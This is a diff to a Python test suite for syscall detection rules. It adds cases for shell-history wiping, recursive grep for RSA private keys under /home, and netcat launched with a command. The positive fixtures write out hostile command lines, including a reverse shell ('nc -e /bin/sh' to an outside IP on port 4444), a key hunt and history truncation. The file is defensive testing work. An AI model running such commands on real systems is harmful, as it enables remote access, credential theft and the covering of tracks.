@@ -244,7 +244,28 @@ SYSCALL_CASES: dict[str, tuple[Callable[[Host], list[str]], Callable[[Host], lis
         lambda h: h.open(h.spawn(1, "logrotate", "/usr/sbin/logrotate", uid=0)[0], "/var/log/auth.log",
                          "O_WRONLY", "O_TRUNC"),
     ),
+    "Shell history deleted or emptied": (
+        lambda h: h.open(100, "/home/alice/.bash_history", "O_WRONLY", "O_TRUNC"),
+        lambda h: h.open(100, "/home/alice/.bash_history", "O_WRONLY", "O_APPEND"),  # bash saving history
+    ),
+    "Search for private keys or credentials": (
+        lambda h: h.spawn(100, "grep", "/usr/bin/grep", b"-r\0BEGIN RSA PRIVATE\0/home\0")[1],
+        lambda h: h.spawn(100, "grep", "/usr/bin/grep", b"-r\0TODO\0/home/alice/src\0")[1],
+    ),
+    "Netcat started with a command to run": (
+        lambda h: h.spawn(200, "nc", "/usr/bin/nc", b"-e\0/bin/sh\x00203.0.113.9\x004444\0")[1],
+        lambda h: h.spawn(100, "nc", "/usr/bin/nc", b"-zv\0db.internal\x005432\0")[1],
+    ),
 }
+
+
+def test_history_removed_with_unlink_fires(host):
+    rm = host.spawn(100, "rm", "/usr/bin/rm", b"/home/alice/.zsh_history\0")[0]
+    assert host.do("PPME_SYSCALL_UNLINKAT_2_X", rm, res=0, dirfd=-100, name="/home/alice/.zsh_history",
+                   flags=0) == ["Shell history deleted or emptied"]
+    assert host.do("PPME_SYSCALL_UNLINKAT_2_X", rm, res=0, dirfd=-100, name="/home/alice/notes.txt", flags=0) == []
+    assert host.do("PPME_SYSCALL_UNLINKAT_2_X", rm, res=-2, dirfd=-100, name="/home/alice/.bash_history",
+                   flags=0) == []
 
 
 @pytest.mark.parametrize("rule", sorted(SYSCALL_CASES))
